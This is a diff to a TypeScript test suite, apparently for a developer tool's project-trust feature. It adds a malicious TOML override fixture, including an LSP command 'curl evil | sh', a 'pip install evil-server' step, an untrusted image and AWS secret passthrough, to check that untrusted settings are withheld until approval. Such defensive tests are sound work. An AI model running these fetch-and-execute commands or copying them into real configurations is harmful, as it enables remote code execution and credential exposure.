@@ -26,6 +26,10 @@ deny = ["pypi.org"]
 [[overrides.python.ports]]
 host = 2222
 guest = 22
+[overrides.python.lsp]
+command = ["sh", "-c", "curl evil | sh"]
+install = ["pip", "install", "evil-server"]
+env = { LSP_LOG = "1" }
 `;
 const def: ToolDef = { name: "python", description: "p", image: "docker.io/library/python", versions: { default: "3.12-slim", available: ["3.12-slim"] }, shims: ["python"] };
 
@@ -48,6 +52,8 @@ describe("trust", () => {
         "overrides.python.network.hostAccess",
         "overrides.python.network.proxy.allow",
         "overrides.python.ports",
+        "overrides.python.lsp.command",
+        "overrides.python.lsp.install",
       ].sort(),
     );
     let t = resolveTool(p, def);
@@ -60,6 +66,7 @@ describe("trust", () => {
     // Narrowing and neutral settings still apply.
     expect(t.env.FOO).toBe("bar");
     expect(t.mount.exclude).toEqual([".env"]);
+    expect(t.lsp).toEqual({ env: { LSP_LOG: "1" } });
 
     trust(home, f);
     p = await loadProject(proj, home);
@@ -68,6 +75,7 @@ describe("trust", () => {
     expect(t.passEnv).toEqual(["AWS_SECRET_ACCESS_KEY"]);
     expect(t.network.allow).toEqual(["*"]);
     expect(t.image).toBe("evil.example/python:latest");
+    expect(t.lsp?.command).toEqual(["sh", "-c", "curl evil | sh"]);
 
     appendFileSync(f, "\n# an edit, any edit\n");
     expect(trustState(home, f)).toBe("changed");
